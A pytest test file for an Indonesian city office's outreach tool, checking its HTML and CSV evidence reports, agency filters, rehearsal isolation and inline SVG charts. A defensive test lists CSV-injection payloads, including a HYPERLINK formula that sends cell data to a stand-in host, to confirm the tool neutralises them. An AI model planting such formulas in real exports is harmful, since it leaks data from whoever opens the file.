"""The evidence report (``outreach report``): assembled from a real SQLite store, written as HTML and CSV.

The store holds published, failed and missed posts, engagement readings and press coverage, made
the way the publisher and ``press add`` make them; a rehearsal writes to its own store and must
leave the live report empty.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from outreach.cli import cli
from outreach.errors import NotFound
from outreach.evidence import assemble
from outreach.model import MetricReading, PostState
from tests.engine_helpers import ZONE, at, campaign, file_channel, innovation, project, settle_as, workspace

NOW = "2026-12-10T10:00+07:00"
KTP = "ktp-sehari-jadi"
POSYANDU = "posyandu-keliling"
IDLE = "arsip-digital"  # approved, in no campaign: never published
DRAFT = "belum-disetujui"  # not approved: never a gap
LATER = "pojok-baca"  # approved, but its service starts after the period: no gap either
DUKCAPIL = "Dinas Kependudukan dan Pencatatan Sipil"
DINKES = "Dinas Kesehatan"
OFFICE = "Dinas Komunikasi dan Informatika Kota Bandar Lampung"
REFUSED = "the platform refused the post: duplicate content"


@pytest.fixture
def office(tmp_path: Path) -> Path:
    return build_office(tmp_path)


def build_office(tmp_path: Path) -> Path:
    """Three days of posts on X and Facebook: most published and read, one refused, one missed, press."""
    rows = [
        innovation(KTP, DUKCAPIL, tagar="KampanyeDesember", nama="KTP Sehari Jadi"),
        innovation(POSYANDU, DINKES, tagar="KampanyeDesember"),
        innovation(IDLE, "Dinas Perpustakaan dan Kearsipan"),
        innovation(LATER, "Dinas Perpustakaan dan Kearsipan", mulai="2027-03-01"),
        innovation(DRAFT, DINKES, status="draf", tagar="KampanyeDesember"),
    ]
    config = project(
        tmp_path,
        rows,
        channels={"x": file_channel("x"), "fb": file_channel("facebook")},
        campaigns={"desember": campaign(["x", "fb"], tagar=["KampanyeDesember"])},
    )
    config.write_text(f'office = "{OFFICE}"\n' + config.read_text(encoding="utf-8"), encoding="utf-8")
    ws = workspace(config, at(2026, 12, 1, 8))
    ws.planning.apply_plan(3)
    posts = ws.store.posts([PostState.PLANNED])
    for post in posts[:-2]:
        settle_as(
            ws.store, post.id, PostState.PUBLISHED, post.scheduled_at, "published",
            remote_id=f"r{post.id}", remote_url=f"https://contoh.invalid/{post.channel}/{post.id}",
            published_at=post.scheduled_at + timedelta(minutes=1),
        )  # fmt: skip
        ws.store.add_readings(
            [
                MetricReading(post.id, post.scheduled_at + timedelta(hours=1), {"likes": 1}),
                MetricReading(post.id, post.scheduled_at + timedelta(days=1), {"likes": post.id, "reposts": 2}),
            ]
        )
    settle_as(ws.store, posts[-2].id, PostState.FAILED, posts[-2].scheduled_at, REFUSED)
    from outreach.outbox import Operation

    ws.store.transition(posts[-1].id, Operation.MISS, at(2026, 12, 4), "too late after downtime")
    ws.store.add_press(KTP, "https://berita.invalid/ktp", "Lampung Post", date(2026, 12, 2), ws.now(), "rina")
    ws.store.add_press(POSYANDU, "https://berita.invalid/lama", "Tribun", date(2025, 6, 1), ws.now(), "rina")
    ws.close()
    return config


def run(config: Path, *args: str) -> Result:
    return CliRunner().invoke(cli, ["--config", str(config), "--now", NOW, *args], catch_exceptions=False)


def evidence(config: Path, **options: object):  # type: ignore[no-untyped-def]
    ws = workspace(config, at(2026, 12, 10, 10))
    try:
        return assemble(
            ws.store, start=date(2026, 12, 1), end=date(2026, 12, 31), zone=ZONE, now=ws.now(),
            platforms={"x": "x", "fb": "facebook"}, **options,  # type: ignore[arg-type]
        )  # fmt: skip
    finally:
        ws.close()


def test_every_published_post_is_there_with_its_exact_text_wib_time_link_and_latest_reading(office: Path) -> None:
    ws = workspace(office, at(2026, 12, 10, 10))
    published = ws.store.posts([PostState.PUBLISHED])
    ws.close()
    report = evidence(office)
    shown = {post.post_id: post for post in report.posts}
    assert set(shown) == {post.id for post in published} and len(shown) >= 4
    for post in published:
        entry = shown[post.id]
        assert entry.text == post.text and entry.permalink == post.remote_url
        assert entry.published_at.utcoffset() == timedelta(hours=7) and entry.published_at.strftime("%H:%M") == "09:01"
        assert entry.figures is not None and entry.figures.counts == {"likes": post.id, "reposts": 2}  # the latest
    ktp = next(each for each in report.innovations if each.innovation.id == KTP)
    assert ktp.platforms == ["facebook", "x"]  # the channels the index counts
    assert ktp.figures.interactions == sum(post.post_id + 2 for post in ktp.posts)
    assert [item.outlet for item in ktp.press] == ["Lampung Post"]  # the 2025 article is outside the period
    assert report.top_posts()[0].interactions == max(post.post_id for post in report.posts) + 2


def test_gaps_are_approved_innovations_never_published_and_posts_that_did_not_go_out(office: Path) -> None:
    report = evidence(office)
    assert [(agency, each.id) for agency, each in report.unpublished] == [("Dinas Perpustakaan dan Kearsipan", IDLE)]
    assert sorted((gap.state, gap.reason) for gap in report.gaps) == [
        ("failed", REFUSED),
        ("missed", "too late after downtime"),
    ]
    assert DRAFT not in {each.innovation.id for each in report.innovations}


def test_one_agency_alone_and_an_unknown_agency_names_the_agencies(office: Path) -> None:
    report = evidence(office, agency="dinas  kesehatan")
    assert [agency.name for agency in report.agencies] == [DINKES]
    assert {post.innovation_id for post in report.posts} == {POSYANDU}
    with pytest.raises(NotFound, match="Dinas Kependudukan dan Pencatatan Sipil; Dinas Kesehatan"):
        evidence(office, agency="Dinas Pariwisata")
    result = CliRunner().invoke(cli, ["--config", str(office), "report", "--opd", "Dinas Pariwisata"])
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "no agency named 'Dinas Pariwisata'" in result.output and DINKES in result.output


def test_the_report_csv_holds_every_post_and_gap_and_reads_in_indonesian_excel(office: Path) -> None:
    result = run(office, "report", "--from", "2026-12-01", "--format", "csv", "--delimiter", ";")
    assert result.exit_code == 0, result.output
    assert result.output.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(result.output.removeprefix("\ufeff")), delimiter=";"))
    states = sorted(row["state"] for row in rows)
    assert states.count("failed") == 1 and states.count("missed") == 1 and states.count("published") >= 4
    published = next(row for row in rows if row["state"] == "published" and row["innovation_id"] == KTP)
    assert published["agency"] == DUKCAPIL and published["when"].endswith("+07:00")
    assert published["platforms_reached"] == "2" and published["permalink"].startswith("https://contoh.invalid/")
    assert next(row for row in rows if row["state"] == "failed")["reason"] == REFUSED


def test_the_html_report_is_written_to_a_file_with_the_texts_and_the_clicks_note(office: Path) -> None:
    target = office.parent / "laporan.html"
    result = run(office, "report", "--from", "2026-12-01", "--output", str(target))
    assert result.exit_code == 0, result.output
    page = target.read_text(encoding="utf-8")
    assert "<svg" in page and "UTM" in page and "Lampung Post" in page and OFFICE in page
    assert "duplicate content" in page and "Arsip Digital" in page
    for forbidden in ("http://", "<script", "@import", "url(http", "<link"):
        assert forbidden not in page.replace("http://www.w3.org", "")


def test_a_folder_that_does_not_exist_is_one_clear_line_and_leaves_nothing(office: Path) -> None:
    target = office.parent / "tidak-ada" / "laporan.html"
    result = CliRunner().invoke(cli, ["--config", str(office), "report", "--output", str(target)])
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert f"cannot write {target}" in result.output and not target.parent.exists()


def test_a_period_that_ends_before_it_starts_is_refused(office: Path) -> None:
    result = CliRunner().invoke(cli, ["--config", str(office), "report", "--from", "2026-12-05", "--to", "2026-12-01"])
    assert result.exit_code == 2 and "--to" in result.output and "Traceback" not in result.output


def test_the_default_period_is_this_year_up_to_today(office: Path) -> None:
    result = run(office, "report", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(result.output.removeprefix("\ufeff"))))
    assert rows and all(row["when"].startswith("2026-12-0") for row in rows)
    early = CliRunner().invoke(
        cli, ["--config", str(office), "--now", "2026-11-30T10:00+07:00", "report", "--format", "csv"]
    )
    assert early.output.removeprefix("\ufeff").count("\n") == 1  # only the header: nothing before December


def test_a_rehearsal_never_reaches_the_live_report_and_its_own_report_says_it_is_not_evidence(tmp_path: Path) -> None:
    config = project(
        tmp_path,
        [innovation(KTP, DUKCAPIL)],
        channels={"x": file_channel("x")},
        campaigns={"desember": campaign(["x"])},
    )
    assert run(config, "rehearse", "--from", "2026-12-01", "--days", "3").exit_code == 0
    live = run(config, "report", "--format", "csv")
    assert live.stdout.removeprefix("\ufeff").splitlines()[1:] == []
    target = tmp_path / "gladi.html"
    rehearsed = run(config, "--rehearsal", "report", "--output", str(target))
    assert rehearsed.exit_code == 0, rehearsed.output
    assert "rehearsal's report" in rehearsed.stderr and "not evidence" in rehearsed.stderr
    page = target.read_text(encoding="utf-8")
    assert "REHEARSAL" in page and "not evidence" in page and "Ktp Sehari Jadi" in page


#: What a hostile catalogue row could start a cell with (OWASP "CSV Injection").
FORMULAS = ['=HYPERLINK("https://contoh.invalid/?d="&A1)', "+1+1", "-2+3", "@SUM(1+1)"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_neither_the_report_csv_nor_the_history_csv_hands_a_spreadsheet_a_formula(tmp_path: Path, formula: str) -> None:
    config = project(
        tmp_path,
        [innovation(KTP, formula, nama=formula)],
        channels={"x": file_channel("x")},
        campaigns={"desember": campaign(["x"])},
    )
    ws = workspace(config, at(2026, 12, 1, 8))
    ws.planning.apply_plan(1)
    post = ws.store.posts([PostState.PLANNED])[0]
    settle_as(ws.store, post.id, PostState.PUBLISHED, post.scheduled_at, "published", remote_url=formula,
              published_at=post.scheduled_at)  # fmt: skip
    ws.close()
    report = run(config, "report", "--format", "csv").output
    history = run(config, "history", "--format", "csv").output
    for text, columns in (
        (report, ("agency", "innovation_name", "permalink")),
        (history, ("innovation_name", "agency")),
    ):
        row = next(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
        for column in columns:
            assert row[column] == "'" + formula, (column, row[column])


def test_charts_are_inline_svg_that_loads_nothing_and_say_when_they_show_only_the_busiest_agencies() -> None:
    from datetime import datetime

    from outreach.evidence import AgencyEvidence, EvidenceReport, Figures, InnovationEvidence, PostEvidence
    from outreach.i18n import set_language
    from outreach.model import Innovation
    from outreach.reports import charts_of

    agencies = []
    for number in range(20):
        item = Innovation(f"inovasi-{number}", f"Inovasi {number}", f"Dinas Nomor {number}", "r", "m", "c")
        moment = datetime(2026, 3, 1 + number, 9, tzinfo=ZONE)
        post = PostEvidence(number, item.id, item.opd, item.nama, "x", "x", moment,
                            None, "teks", Figures({"likes": number * 1000}), moment)  # fmt: skip
        agencies.append(
            AgencyEvidence(item.opd, [InnovationEvidence(item, [post], [], Figures({"likes": number * 1000}))], [], [])
        )
    report = EvidenceReport(
        date(2026, 1, 1), date(2026, 12, 31), ZONE, datetime(2027, 1, 1, tzinfo=ZONE), None, None, agencies
    )
    set_language("id")
    charts = charts_of(report)
    assert [chart.caption for chart in charts] == [
        "Unggahan dan interaksi per bulan",
        "Unggahan dan interaksi 15 OPD dengan unggahan terbanyak",
        "Unggahan dan interaksi per platform",
    ]
    for chart in charts:  # two panels each, posts above interactions, named by the caption
        panels = re.findall(r"<svg [^>]*>", chart.svg)
        assert [re.search(r'aria-label="([^"]*)"', panel)[1] for panel in panels] == [  # type: ignore[index]
            f"{chart.caption}: Unggahan",
            f"{chart.caption}: Interaksi",
        ]
        assert all('role="img"' in panel for panel in panels)
        assert "<?xml" not in chart.svg and "<!--" not in chart.svg and "<script" not in chart.svg
        assert "sans-serif" in chart.svg and "@font-face" not in chart.svg and "@import" not in chart.svg
        assert "url(" not in chart.svg and "href=" not in chart.svg  # it loads nothing from anywhere
    # The 15 busiest agencies only, and their numbers as an Indonesian reader writes them.
    assert len(re.findall(r"<text [^>]*>Dinas Nomor ", charts[1].svg)) == 2 * 15
    assert re.search(r">\d{1,3}(\.\d{3})+<", charts[1].svg) and not re.search(r">\d+,\d{3}<", charts[1].svg)
    ids = re.findall(r'id="([^"]+)"', "".join(chart.svg for chart in charts))
    assert len(ids) == len(set(ids)) == 6  # one per panel, apart from each other in the page
